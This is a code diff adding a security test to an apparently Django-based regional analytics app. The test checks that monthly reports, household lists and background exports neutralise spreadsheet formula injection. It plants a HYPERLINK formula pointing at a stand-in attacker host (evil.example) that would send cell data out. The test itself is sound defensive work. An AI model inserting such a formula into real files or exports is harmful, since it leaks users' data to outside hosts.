@@ -166,3 +166,41 @@ def test_the_api_gives_the_same_figures_within_scope(indicators: None, client_fo
     )
     assert client_for("zhang_township").get("/api/v1/analytics/regions/360722").status_code == 404
     assert client_for("xiao_grid").get("/api/v1/analytics/regions/360722100200").status_code == 403
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?id="&A2,"x")'
+
+
+def _inert(cell) -> bool:
+    return cell.data_type != "f" and str(cell.value).startswith("'=")
+
+
+def test_formulas_in_names_are_inert_in_every_table_export(indicators: None, client_for) -> None:
+    """Formula injection (issue #14.4): the monthly report, the household list (xlsx, csv, background)."""
+    import csv
+
+    from fangpin.regions.models import Region
+    from fangpin.registry.models import Person
+
+    Region.objects.filter(prefix__in=["360722100", A]).update(name=HOSTILE)
+    Person.objects.filter(name="测试0").update(name=HOSTILE)  # masked in the list: still starts with "="
+    report = load_workbook(
+        io.BytesIO(
+            client_for("wang_county").get("/analytics/region/360722/report.xlsx?month=2026-10").content
+        )
+    )
+    town = next(r for r in report["下级区划指标"].iter_rows(min_row=2) if r[0].value == "360722100")
+    assert _inert(town[1]) and town[2].value == 6 and town[2].data_type == "n"
+    client = client_for("zhang_township")
+    listed = load_workbook(
+        io.BytesIO(client.get(f"/analytics/region/{A}/table/households.xlsx?month=2026-10").content)
+    )
+    first = next(listed.active.iter_rows(min_row=2))
+    assert _inert(first[1]) and _inert(first[2])
+    text = client.get(f"/analytics/region/{A}/table/households.csv?month=2026-10").content.decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text)))[1]
+    assert row[1] == "'" + HOSTILE and row[2].startswith("'=")
+    client.post(f"/analytics/region/{A}/export/")
+    job = ExportJob.objects.get()
+    background = load_workbook(io.BytesIO(client.get(f"/analytics/exports/{job.pk}/download/").content))
+    assert all(_inert(r[1]) and _inert(r[2]) for r in background.active.iter_rows(min_row=2))
